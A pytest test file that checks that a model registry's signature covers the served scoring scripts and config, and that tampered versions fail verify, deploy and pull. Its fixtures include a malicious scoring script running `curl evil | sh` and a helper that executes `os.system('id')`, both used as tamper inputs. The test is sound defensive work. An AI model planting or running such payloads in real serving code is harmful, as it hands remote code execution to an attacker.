"""model.sig covers what a version serves: model/ and every file kept with it (serving/, scoring/
with its extra files, model.onnx, anything put there since), so that rewriting a scoring script and
every checksum that names it (serving.json, version.json, a rebuilt tftrain.db) fails
`models verify` and `deploy --verify-key`. Signatures made over model/ alone still verify model/;
they are refused, in one line, where a version's served files would go unsigned."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec

from runner.errors import SignatureError
from runner.history import signing
from runner.history.model_registry import Registry
from runner.history.sealing import Seal, pull_verified, verify_version
from runner.history.store import Store

SECRET = "MODEL_SIGNING_KEY"
SCORE = b"def init():\n    pass\n\ndef run(data):\n    return data\n"
EVIL = b"import os\ndef init():\n    os.system('curl evil | sh')\n\ndef run(data):\n    return data\n"


@pytest.fixture
def keys(tmp_path):
    key = ec.generate_private_key(ec.SECP256R1())
    private = key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    ).decode()
    (tmp_path / "pub.pem").write_bytes(
        key.public_key().public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
    )
    return private, tmp_path / "pub.pem"


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def gate_files(root: Path) -> dict[str, Path]:
    """What the gate leaves for a version served by a scoring script (runner.serving.gate.files)."""
    serving = root / "serving"
    (serving / "scoring").mkdir(parents=True)
    (serving / "scoring" / "score.py").write_bytes(SCORE)
    (serving / "scoring" / "helper.py").write_bytes(b"X = 1\n")
    document = {
        "tensorflow": "2.18.1",
        "path": ".",
        "scoring": {"script": "score.py", "sha256": sha(SCORE), "packages": []},
    }
    (serving / "serving.json").write_text(json.dumps(document))
    (serving / "model.onnx").write_bytes(b"onnx graph")
    return {
        "serving/serving.json": serving / "serving.json",
        "scoring/score.py": serving / "scoring" / "score.py",
        "scoring/helper.py": serving / "scoring" / "helper.py",
        "model.onnx": serving / "model.onnx",
    }


def register(base: Path, private: str | None):
    run_dir = base / "run"
    run_dir.mkdir(exist_ok=True)
    (run_dir / "run.json").write_text(json.dumps({"run_id": "digits-1"}))
    model = base / "out" / "model"
    (model / "variables").mkdir(parents=True)
    (model / "saved_model.pb").write_bytes(b"graph")
    (model / "variables" / "variables.data").write_bytes(b"weights")
    seal = Seal(
        run_dir / "run.json",
        run_dir / "manifest.lock.yml",
        SECRET if private else None,
        environ={SECRET: private} if private else {},
    )
    files = gate_files(base / "gate")
    document = json.loads(files["serving/serving.json"].read_text())
    return Registry(Store(base / "home")).register("digits", model, "digits-1", {"serving": document}, files, seal)


def rewrite(version: Path, relative: str, data: bytes) -> None:
    """`relative` in the version replaced by `data`, and every checksum that names it made to agree:
    version.json's extras (and serving.json's scoring sha256 for the script); tftrain.db is deleted
    so that the registry is rebuilt from version.json."""
    (version / relative).parent.mkdir(parents=True, exist_ok=True)
    (version / relative).write_bytes(data)
    record = json.loads((version / "version.json").read_text())
    if relative == "scoring/score.py":
        serving = json.loads((version / "serving" / "serving.json").read_text())
        serving["scoring"]["sha256"] = sha(data)
        (version / "serving" / "serving.json").write_text(json.dumps(serving))
        record["serving"] = serving
        record["extras"]["serving/serving.json"] = sha((version / "serving" / "serving.json").read_bytes())
    if not relative.startswith("model/"):
        record["extras"][relative] = sha(data)
    (version / "version.json").write_text(json.dumps(record))
    for name in ("tftrain.db", "tftrain.db-wal", "tftrain.db-shm"):
        (version.parents[2] / name).unlink(missing_ok=True)


def test_the_signature_covers_every_file_served_and_nothing_registration_writes_after_it(tmp_path, keys):
    private, public = keys
    model = register(tmp_path, private)
    signed = signing.signed_files(model.path / signing.SIGNATURE)
    assert sorted(signed) == [
        "model.onnx",
        "model/saved_model.pb",
        "model/variables/variables.data",
        "scoring/helper.py",
        "scoring/score.py",
        "serving/serving.json",
    ]
    assert signed["scoring/score.py"] == sha(SCORE)
    assert model.info["signature"]["covers"] == "version"
    verify_version(model, public)


@pytest.mark.parametrize(
    "relative, data, words",
    [
        ("scoring/score.py", EVIL, "changed: 'scoring/score.py', 'serving/serving.json'"),
        ("scoring/helper.py", b"X = __import__('os').system('id')\n", "changed: 'scoring/helper.py'"),
        ("scoring/extra.py", b"import os\n", "added (not signed): 'scoring/extra.py'"),
        ("model.onnx", b"another graph", "changed: 'model.onnx'"),
        ("serving/serving.json", b'{"tensorflow": "2.18.1"}', "changed: 'serving/serving.json'"),
        ("sitecustomize.py", b"import os\n", "added (not signed): 'sitecustomize.py'"),
    ],
)
def test_a_served_file_rewritten_with_its_checksums_fails_verify_and_deploy(
    home, keys, cli, monkeypatch, relative, data, words
):
    import runner.environments

    private, public = keys
    model = register(home.parent, private)
    rewrite(model.path, relative, data)
    result = cli("models", "verify", "digits@v1", "--public-key", str(public))
    assert result.returncode == SignatureError.exit_code == 29, result.stdout + result.stderr
    assert words in result.stderr and result.stderr.count("\n") == 1 and "Traceback" not in result.stderr
    monkeypatch.setattr(
        runner.environments,
        "docker_client",
        lambda: pytest.fail("the daemon was asked before the signature was checked"),
    )
    result = cli("deploy", "digits@v1", "--image", "localhost:5000/digits", "--verify-key", str(public))
    assert result.returncode == 29, result.stdout + result.stderr
    assert "the files are not what model.sig signed" in result.stderr and result.stderr.count("\n") == 1


def test_an_intact_version_with_served_files_verifies_and_pulls_its_model(home, keys, cli, tmp_path):
    private, public = keys
    register(home.parent, private)
    result = cli("models", "verify", "digits@v1", "--public-key", str(public))
    assert result.returncode == 0, result.stderr
    result = cli("models", "pull", "digits@v1", "-o", str(tmp_path / "pulled"), "--verify-key", str(public))
    assert result.returncode == 0, result.stderr
    assert sorted(p.name for p in (tmp_path / "pulled").iterdir()) == ["saved_model.pb", "variables"]
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".pulled")] == []  # no scratch left


def test_pull_verify_key_refuses_a_version_whose_served_files_changed(tmp_path, keys):
    private, public = keys
    model = register(tmp_path, private)
    rewrite(model.path, "scoring/score.py", EVIL)
    model = Registry(Store(tmp_path / "home")).get("digits", 1)  # read back from the rewritten version.json
    with pytest.raises(SignatureError, match="changed: 'scoring/score.py', 'serving/serving.json'"):
        pull_verified(model, tmp_path / "pulled", public)
    assert not (tmp_path / "pulled").exists()
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".pulled")] == []


# --- signatures made over model/ alone (before the served files were signed) -----------------------


def sign_model_only(model, private: str) -> None:
    """model.sig as earlier releases made it: OpenSSF model signing over model/, nothing ignored."""
    import model_signing

    key = Path(model.path.parent / "key.pem")
    key.write_text(private)
    config = model_signing.signing.Config().set_hashing_config(signing._hashing(model_signing))
    config.use_elliptic_key_signer(private_key=str(key))
    (model.path / signing.SIGNATURE).unlink()
    config.sign(model.files_dir, model.path / signing.SIGNATURE)
    key.unlink()


def test_a_model_only_signature_is_refused_where_served_files_would_go_unsigned(home, keys, cli, tmp_path, monkeypatch):
    import runner.environments

    private, public = keys
    model = register(home.parent, private)
    sign_model_only(model, private)
    assert signing.coverage_of(model.path / signing.SIGNATURE) is signing.Coverage.MODEL
    monkeypatch.setattr(runner.environments, "docker_client", lambda: pytest.fail("the daemon was asked"))
    for command in (
        ("models", "verify", "digits@v1", "--public-key"),
        ("deploy", "digits@v1", "--image", "localhost:5000/d", "--verify-key"),
    ):
        result = cli(*command, str(public))
        assert result.returncode == 29, result.stdout + result.stderr
        assert "model.sig covers model/ only" in result.stderr and "'scoring/score.py'" in result.stderr
        assert "register the model again" in result.stderr and result.stderr.count("\n") == 1
    # its model/ is still what it signed: pulling the model alone verifies
    result = cli("models", "pull", "digits@v1", "-o", str(tmp_path / "pulled"), "--verify-key", str(public))
    assert result.returncode == 0, result.stderr
    (model.files_dir / "saved_model.pb").write_bytes(b"evil")
    sums = model.path / "SHA256SUMS"  # rewritten to match: only the signature can tell
    sums.write_text(sums.read_text().replace(sha(b"graph"), sha(b"evil")))
    with pytest.raises(SignatureError, match="changed: 'saved_model.pb'"):
        pull_verified(model, tmp_path / "again", public)


def test_a_model_only_signature_of_a_version_without_served_files_still_verifies(tmp_path, keys):
    private, public = keys
    run_dir = tmp_path / "run"
    run_dir.mkdir()
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "weights.h5").write_bytes(b"weights")
    registry = Registry(Store(tmp_path / "home"))
    model = registry.register(
        "plain",
        tmp_path / "out",
        None,
        {},
        seal=Seal(run_dir / "run.json", run_dir / "lock", SECRET, environ={SECRET: private}),
    )
    sign_model_only(model, private)
    verify_version(model, public)  # everything it would serve is model/, which it signed
